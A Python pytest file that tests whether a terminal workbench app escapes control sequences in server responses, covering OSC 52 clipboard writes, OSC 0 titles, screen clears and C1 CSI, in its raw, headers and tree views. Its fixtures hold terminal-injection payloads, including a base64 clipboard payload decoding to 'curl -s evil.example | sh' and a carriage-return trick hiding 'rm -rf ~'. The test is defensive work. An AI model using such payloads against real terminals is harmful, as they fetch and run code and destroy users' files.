"""What the workbench writes to a real terminal when an API answers with control sequences.

The app runs as a process on a pseudo-terminal; the test reads the raw byte stream the
terminal would receive and checks that the sequences from /fault/escapes (OSC 52 clipboard,
OSC 0 title, CSI 2J clear, C1 CSI) never appear in it, while their escaped forms do (so the
text was drawn). The app's own escape sequences are fine: a leak is recognised by the
payload that follows the escape, which only the server sends.
"""

from __future__ import annotations

import fcntl
import os
import re
import select
import signal
import struct
import subprocess
import sys
import termios
import textwrap
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tui.sandbox import Sandbox

ROOT = Path(__file__).resolve().parents[2]
COLUMNS, ROWS = 250, 34  # wide enough for a whole hostile line
TIMEOUT = 90.0  # seconds to wait for a screen: generous, the machine may be busy

LEAKS = {
    b"\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==": "OSC 52 writes the clipboard",
    b"\x1b]0;pwned": "OSC 0 sets the window title",
    b"\x1b[2Jscreen-cleared": "CSI 2J clears the screen",
    b"\x9b2Jc1-cleared": "C1 CSI clears the screen",  # raw, or the tail of its UTF-8 form c2 9b
}
ESCAPED = b"\\u001b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\u0007"  # as the screen shows it
_CSI = re.compile(rb"\x1b\[[0-9;?]*[A-Za-z]")

F4 = b"\x1bOS"  # next response tab
CTRL_R, CTRL_Q = b"\x12", b"\x11"


class Terminal:
    """A process on a pseudo-terminal, and every byte it has written."""

    def __init__(self, args: list[str], cwd: Path) -> None:
        self.master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
        env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
        env.update(TERM="xterm-256color", COLUMNS=str(COLUMNS), LINES=str(ROWS))
        env.pop("TMUX", None)
        self.process = subprocess.Popen(
            [sys.executable, "-m", "tui", *args],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            cwd=cwd,
            env=env,
            start_new_session=True,
        )
        os.close(slave)
        self.output = bytearray()

    def _read(self, timeout: float) -> bool:
        """Read what is there within `timeout`; False once nothing more will come."""
        ready, _, _ = select.select([self.master], [], [], timeout)
        if not ready:
            return True
        try:
            chunk = os.read(self.master, 65536)
        except OSError:  # the process closed the terminal
            return False
        self.output += chunk
        return bool(chunk)

    def wait_for(self, marker: bytes, since: int = 0) -> None:
        """Read until `marker` is drawn (in `text(since)`), or fail after TIMEOUT."""
        deadline = time.monotonic() + TIMEOUT
        while marker not in self.text(since):
            if time.monotonic() > deadline or not self._read(0.2):
                tail = self.text(since)[-3000:]
                raise AssertionError(f"{marker!r} not drawn within {TIMEOUT:.0f} s; last output: {tail!r}")

    def text(self, since: int = 0) -> bytes:
        """The output from `since` without the app's CSI sequences (colours, cursor moves)."""
        return _CSI.sub(b"", bytes(self.output[since:]))

    def press(self, keys: bytes) -> int:
        """Type `keys`; returns the output offset from which their effect shows."""
        start = len(self.output)
        os.write(self.master, keys)
        return start

    def close(self) -> None:
        """Quit as a person would; a process that does not go is killed (the test is over)."""
        if self.process.poll() is None:
            try:
                os.write(self.master, CTRL_Q)
                self.process.wait(timeout=5)
            except (OSError, subprocess.TimeoutExpired):
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait(timeout=30)
        os.close(self.master)


def assert_no_leak(output: bytes) -> None:
    leaked = [what for sequence, what in LEAKS.items() if sequence in output]
    assert not leaked, f"the server drove the terminal: {leaked}"


@pytest.fixture
def folder(tmp_path: Path, sandbox: Sandbox, isolated_history: Path) -> Path:
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    for kind in ("text", "json"):
        (profiles / f"hostile-{kind}.toml").write_text(
            textwrap.dedent(f"""\
                name = "hostile {kind}"
                [request]
                method = "GET"
                url = "{sandbox.base_url}/fault/escapes?type={kind}"
                """)
        )
    return profiles


@contextmanager
def workbenches() -> Iterator[Callable[[list[str], Path], Terminal]]:
    """Starts `hookbench ARGS` on terminals, each shown once its first screen is drawn; all quit after."""
    started: list[Terminal] = []

    def start(args: list[str], cwd: Path) -> Terminal:
        terminal = Terminal(args, cwd)
        started.append(terminal)
        terminal.wait_for(b"ctrl+r sends")  # the first screen
        return terminal

    try:
        yield start
    finally:
        for terminal in started:
            terminal.close()


@pytest.fixture
def open_app(folder: Path) -> Iterator[Callable[[str], Terminal]]:
    with workbenches() as start:
        yield lambda kind: start(
            ["--profiles", str(folder), "open", str(folder / f"hostile-{kind}.toml")], ROOT
        )


def send(terminal: Terminal, shown: bytes) -> int:
    """ctrl+r, then wait for `shown` (the reason phrase in the status line is hostile too)."""
    start = terminal.press(CTRL_R)
    terminal.wait_for(b"200 OK", start)
    terminal.wait_for(shown, start)
    return start


def test_raw_and_headers_tabs_write_no_control_sequence(open_app) -> None:
    terminal = open_app("text")
    sent = send(terminal, b"text body: see Raw")
    assert b"200 OK " + ESCAPED in terminal.text(sent)  # the status line's reason phrase

    raw = terminal.press(F4)
    terminal.wait_for(b"end of body", raw)  # the Raw tab: the body's last line is drawn
    assert ESCAPED in terminal.text(raw)  # the hostile line is on screen, escaped
    assert b"ls\\u000drm -rf ~ hidden-by-cr" in terminal.text(raw)  # a lone CR cannot hide text

    headers = terminal.press(F4)
    terminal.wait_for(b"content-length", headers)  # the Headers tab, past the hostile header
    assert b"x-hostile: " + ESCAPED in terminal.text(headers)
    assert_no_leak(bytes(terminal.output))


def test_tree_labels_and_path_bar_write_no_control_sequence(open_app) -> None:
    terminal = open_app("json")
    sent = send(terminal, b"a key that is hostile")  # the hostile key's node in the tree
    assert (
        ESCAPED + b'\\u001b]0;pwned-title\\u0007\\u001b[2Jscreen-cleared\\u009b2Jc1-cleared\\u007f: "a key'
        in (terminal.text(sent))
    )
    terminal.wait_for(b"nested = ", terminal.press(b"\x1b[B\x1b[B\x1b[B"))  # down to `nested`
    opened = terminal.press(b"\r")  # open it
    terminal.wait_for(b'value: "\\u001b]52;c;', opened)  # the tree label of the hostile value
    picked = terminal.press(b"\x1b[B")
    terminal.wait_for(b"nested.value", picked)  # the path bar follows the cursor
    assert b'nested.value = "' + ESCAPED in terminal.text(picked)
    assert_no_leak(bytes(terminal.output))
